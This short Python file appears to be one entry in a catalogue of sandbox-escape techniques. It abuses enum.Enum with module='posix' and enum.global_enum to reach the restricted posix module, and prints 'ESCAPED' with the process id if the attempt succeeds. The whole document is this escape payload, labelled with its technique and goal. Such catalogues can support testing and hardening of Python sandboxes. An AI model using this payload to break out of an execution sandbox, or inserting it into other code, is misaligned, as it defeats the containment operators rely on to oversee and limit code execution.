# technique: Enum('E', ..., module=) and a class with that module
# goal: import
# source: own analysis: sys.modules in trusted code
import enum
E = enum.Enum('E', 'A', module='posix')
enum.global_enum(E)
import posix
if posix.A is E.A:
    print('ESCAPED pid=%d' % posix.getpid())
